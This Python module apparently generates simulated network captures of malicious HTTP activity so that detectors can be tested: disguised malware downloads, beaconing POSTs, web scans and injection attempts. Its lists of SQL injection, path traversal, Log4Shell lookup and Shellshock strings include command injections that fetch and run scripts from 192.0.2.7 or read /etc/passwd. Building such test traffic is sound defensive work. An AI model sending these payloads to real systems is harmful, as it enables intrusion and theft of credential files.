"""What malware and attackers do over plain HTTP. Programs' names, paths and header fields are those of their
documentation and sources; what is executed is harmless here.

SPDX-License-Identifier: GPL-2.0-or-later
"""
from functools import partial

import activities
import payload
from lan import Connection

AGENTS = (b"Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)", b"Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
          b"wget/1.20", b"WinHTTP loader/1.0", b"curl/7.88.1", b"")
PORTS = (80, 80, 80, 8080, 8000, 443, 4444, 61733)


def program(scene):
    """Mostly for Windows; with ELF as routers and cameras run it, too."""
    size = scene.random.randint(3000, 40000)
    if scene.random.random() < 0.7:
        return payload.program_for_windows(scene.random, size, scene.random.choice((0x80, 0xe0, 0xf8, 0x118)))
    machine, little, bits = scene.random.choice(((0x3e, True, 64), (8, False, 32), (40, True, 32)))
    return payload.program_for_unix(scene.random, size, machine, little, bits)


def send(scene, connection, kind, body, extra=()):
    """An answer, in one of the ways in which servers send it."""
    way = scene.random.choice(("whole", "head first", "chunks"))
    if way == "whole":
        return connection.server(payload.http_answer(200, kind, body, extra))
    if way == "chunks":
        return connection.server(payload.http_head(200, kind, None, extra) + payload.chunked(body))
    connection.server(payload.http_head(200, kind, len(body), extra)).wait(0.01)
    return connection.server(body)


def lose_bodies(scene, server, share=0.4):
    """The capture lost segments of what the server sent, but for those that begin messages or bodies."""
    def is_lost(frame):
        begins = any(word in frame for word in (b"HTTP/1.", b"MZ\x90", b"\x7fELF"))
        return (len(frame) > 1000 and server.address == frame[26:30] and not begins
                and scene.random.random() < share)
    scene.lose(is_lost)


def lose_requests(scene, client, server):
    """Only what the server sent was captured."""
    scene.lose(lambda frame: frame[26:30] == client.address and frame[30:34] == server.address)


def fetch(scene, time, client, server, target, host, kind, extra=(), port=None, body=None):
    connection = Connection(scene.lan, time, client, server, port or 80)
    connection.client(payload.http_request(b"GET", target, host, scene.random.choice(AGENTS)))
    send(scene, connection, kind, body or program(scene), extra)
    return connection.close()


# What it says that it is: by its name, by its type, or both.
DISGUISES = (
    (b"/images/logo.gif", b"image/gif", ()), (b"/img/%d.jpg", b"image/jpeg", ()),
    (b"/wp-content/uploads/%d.png", b"image/png", ()), (b"/%d.txt", b"text/plain", ()),
    (b"/files/invoice_%d.pdf", b"application/pdf", ()), (b"/%d.css", b"text/css", ()),
    (b"/f.php?id=%d", b"image/jpeg", ()), (b"/%d/get", b"text/html; charset=UTF-8", ()),
    (b"/load.php?f=%d", b"application/octet-stream", (b'Content-Disposition: attachment; filename="a.jpg"',)),
    (b"/soft/%d.exe", b"image/png", ()),
)


def lying(scene, lossy=False, one_way=False):
    """A program that a site by name gives out as something else."""
    client, server = scene.desk(), scene.outside(scene.site_name())
    target, kind, extra = scene.random.choice([
        disguise for disguise in DISGUISES if not one_way or disguise[2] or not disguise[1].startswith(
            (b"text/plain", b"application/octet"))])
    for time in scene.times(scene.random.randint(1, 3), 60):
        time = activities.lookup(scene.lan, time, client, scene.resolver, server)
        name = target % scene.random.randrange(10000) if b"%d" in target else target
        fetch(scene, time, client, server, name, server.name.encode(), kind, extra)
    if lossy:
        lose_bodies(scene, server)
    if one_way:
        lose_requests(scene, client, server)
    scene.suspect(client, "download")


def from_address(scene, lossy=False):
    """A loader fetches programs from a server that it knows by address, under any name."""
    client, server = scene.desk(), scene.outside()
    port = scene.random.choice(PORTS)
    host = server.text.encode() + (b":%d" % port if port != 80 else b"")
    for time in scene.times(scene.random.randint(1, 4), 30):
        target = scene.random.choice((b"/a.exe", b"/bins/mips", b"/x86_64", b"/dl?id=7",
                                      b"/u/%d" % scene.random.randrange(99)))
        fetch(scene, time, client, server, target, host, b"application/octet-stream", port=port)
    if lossy:
        lose_bodies(scene, server)
    scene.suspect(client, "download")


def report_home(scene, gap, count=(2, 12), one_way=False):
    """Posts what it has found to an address, under the same path each time."""
    client, server = scene.desk(), scene.outside()
    port = scene.random.choice(PORTS)
    host = server.text.encode() + (b":%d" % port if port != 80 else b"")
    path = scene.random.choice((b"/gate.php", b"/", b"/api/v1/report", b"/%x/post.php" % scene.random.randrange(10**9),
                                b"/p.php?id=%d" % scene.random.randrange(10**6)))
    kind = scene.random.choice((b"application/x-www-form-urlencoded", b"application/octet-stream", b"text/plain",
                                b"application/json"))
    agent = scene.random.choice(AGENTS)
    for time in scene.times(scene.random.randint(*count), gap, 0.8):
        connection = Connection(scene.lan, time, client, server, port)
        data = scene.random.randbytes(scene.random.randint(40, 2000))
        connection.client(payload.http_request(b"POST", path, host, agent, (b"Content-Type: " + kind,), data))
        answer = scene.random.randbytes(scene.random.randint(0, 90))
        connection.server(payload.http_answer(200, b"text/html", answer))
        connection.close()
    if one_way:
        scene.lose(lambda frame: frame[26:30] == server.address)
    scene.suspect(client, "bare-post")


# --- scans ---

WORDLIST = ("admin", "backup", "login", "test", "old", "config", "db", "phpmyadmin", "api", "upload", "private",
            "cgi-bin", "server-status", "wp-admin", "wp-login", "shell", "console", "manager", "setup", "install",
            "dump", "data", "logs", "tmp", "secret", "users", "include", "lib", "scripts", "vendor", "webdav",
            "portal", "panel", "dev", "staging")
ENDINGS = ("", "/", ".php", ".bak", ".zip", ".txt", ".html", ".asp", ".old", ".sql", "~", ".jsp")
NAMED = (
    b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)",
    b"sqlmap/1.7.2#stable (https://sqlmap.org)",
    b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    b"Mozilla/5.0 zgrab/0.x",
    b"gobuster/3.6",
    b"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    b"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    b"Fuzz Faster U Fool v2.1.0-dev",
    b"feroxbuster/2.10.1",
    b"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    b"WhatWeb/0.5.5",
)


def scanner_of(scene):
    """A desk, or somebody from outside, and the server that it looks at."""
    server = scene.intranet
    return (scene.outside() if scene.random.random() < 0.5 else scene.desk()), server


def request(scene, time, client, server, target, agent, status=200, method=b"GET", extra=(), body=b""):
    connection = Connection(scene.lan, time, client, server, 80)
    connection.client(payload.http_request(method, target, b"intranet.local", agent, extra, body))
    connection.server(payload.http_answer(status, b"text/html", payload.page(scene.random, 300)))
    connection.close()
    return connection


def paths(scene, count):
    return [f"/{word}{ending}".encode() for word, ending in scene.random.sample(
        [(word, ending) for word in WORDLIST for ending in ENDINGS], count)]


def scan_by_paths(scene, gap, count, kept=False):
    """Tries words as paths; a few are there. `kept`: over one connection."""
    client, server = scanner_of(scene)
    agent = scene.random.choice(AGENTS[:2])
    times = scene.times(count, gap, 0.5)
    if kept:
        connection = Connection(scene.lan, next(times), client, server, 80)
        for target in paths(scene, count):
            connection.client(payload.http_request(b"GET", target, b"intranet.local", agent)).server(
                payload.http_answer(404 if scene.random.random() < 0.95 else 200, b"text/html", b"x" * 200))
        connection.close()
    else:
        for time, target in zip(times, paths(scene, count)):
            request(scene, time, client, server, target, agent, 404 if scene.random.random() < 0.95 else 200)
    scene.suspect(client, "web-scan")


def scan_named(scene):
    """A scanner that says so, on a site that answers everything."""
    client, server = scanner_of(scene)
    agent = scene.random.choice(NAMED)
    for time, target in zip(scene.times(5, 2, 0.9), paths(scene, scene.random.randint(1, 5))):
        request(scene, time, client, server, target, agent)
    scene.suspect(client, "web-scan")


# --- injections ---

SQL = (b"/item.php?id=1%20AND%204283=4283", b"/item.php?id=1'%20OR%20'1'='1",
       b"/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL--+", b"/item.php?id=1)%20AND%20SLEEP(5)",
       b"/item.php?id=1;WAITFOR%20DELAY%20'0:0:5'--", b"/item.php?id=1/**/uNiOn/**/sElEcT/**/1",
       b"/item.php?name=admin'--%20", b"/item.php?id=1%20ORDER%20BY%207--",
       b"/item.php?id=1+and+extractvalue(1,concat(0x7e,version()))",
       b"/item.php?id=1'%20AND%20(SELECT%201%20FROM%20information_schema.tables)='1")
COMMANDS = (b"/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.7/a.sh;sh+/tmp/a.sh",
            b"/cgi-bin/ping.cgi?host=1.1.1.1;cat%20/etc/passwd",
            b"/cgi-bin/;wget${IFS}http://192.0.2.7/m", b"/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
            b"/setup.cgi?todo=x&cmd=`curl%20http://192.0.2.7/x`", b"/cgi?c=$(wget%20-O-%20http://192.0.2.7/x)")
TRAVERSALS = (b"/download?file=../../../../etc/passwd", b"/static/..%2f..%2f..%2f..%2fetc/shadow",
              b"/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", b"/view?page=....//....//....//etc/passwd",
              b"/a?f=..%c0%af..%c0%af..%c0%afwindows/win.ini", b"/%252e%252e/%252e%252e/%252e%252e/etc/hosts")
LOOKUPS = (b"${jndi:ldap://192.0.2.7:1389/a}", b"${${lower:j}ndi:${lower:l}dap://192.0.2.7/a}",
           b"${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.7/x}", b"${${env:NO:-j}ndi:dns://192.0.2.7/x}")


def inject(scene, targets, count=(1, 4)):
    client, server = scanner_of(scene)
    for time in scene.times(scene.random.randint(*count), 3, 0.9):
        status = scene.random.choice((200, 404, 403))
        request(scene, time, client, server, scene.random.choice(targets), AGENTS[1], status)
    scene.suspect(client, "injection")


def inject_lookups(scene):
    """In the address, in a header field, or in the name of a login."""
    client, server = scanner_of(scene)
    lookup, place = scene.random.choice(LOOKUPS), scene.random.randrange(4)
    target, agent, extra, body = b"/", AGENTS[1], (), b""
    if place == 0:
        target = b"/search?q=" + b"".join(b"%%%02x" % byte for byte in lookup)
    elif place == 1:
        agent = lookup
    elif place == 2:
        extra = (b"X-Forwarded-For: " + lookup,)
    else:
        target, extra = b"/login", (b"Content-Type: application/x-www-form-urlencoded",)
        body = b"username=" + lookup.replace(b"&", b"%26") + b"&password=x"
    request(scene, scene.at(60), client, server, target, agent, 200, b"POST" if body else b"GET", extra, body)
    scene.suspect(client, "injection")


def shell_shock(scene):
    client, server = scanner_of(scene)
    value = b"() { :; }; echo; /bin/id"
    place = scene.random.randrange(3)
    request(scene, scene.at(60), client, server, b"/cgi-bin/status", value if place == 0 else AGENTS[1],
            extra=() if place == 0 else ((b"Referer: " if place == 1 else b"Cookie: ") + value,))
    scene.suspect(client, "injection")


def inject_through_front_end(scene):
    """From outside to a front-end, which passes it on to the server behind it: the front-end is not to blame."""
    client, front, server = scene.outside(), scene.member("front"), scene.intranet
    for time in scene.times(6, 4):
        target = scene.random.choice(SQL + TRAVERSALS)
        connection = Connection(scene.lan, time, client, front, 80)
        connection.client(payload.http_request(b"GET", target, b"www.office.example", AGENTS[1]))
        behind = Connection(scene.lan, connection.time, front, server, 8080)
        behind.client(payload.http_request(b"GET", target, b"www.office.example", AGENTS[1]))
        behind.server(payload.http_answer(200, b"text/html", b"x" * 200)).close()
        connection.time = behind.time
        connection.server(payload.http_answer(200, b"text/html", b"x" * 200)).close()
    scene.suspect(client, "injection")


KINDS = {
    "download-lying": lying, "download-lying-lossy": partial(lying, lossy=True),
    "download-lying-one-way": partial(lying, one_way=True),
    "download-address": from_address, "download-address-lossy": partial(from_address, lossy=True),
    "post-address": partial(report_home, gap=20), "post-address-slow": partial(report_home, gap=600),
    "post-address-one-way": partial(report_home, gap=20, one_way=True),
    "web-scan-named": scan_named, "web-scan-fast": partial(scan_by_paths, gap=0.1, count=200),
    "web-scan-kept": partial(scan_by_paths, gap=0.1, count=120, kept=True),
    "web-scan-10s": partial(scan_by_paths, gap=10, count=60), "web-scan-60s": partial(scan_by_paths, gap=60, count=40),
    "inject-sql": partial(inject, targets=SQL, count=(8, 40)), "inject-command": partial(inject, targets=COMMANDS),
    "inject-traversal": partial(inject, targets=TRAVERSALS), "inject-lookup": inject_lookups,
    "inject-shellshock": shell_shock, "inject-front-end": inject_through_front_end,
}
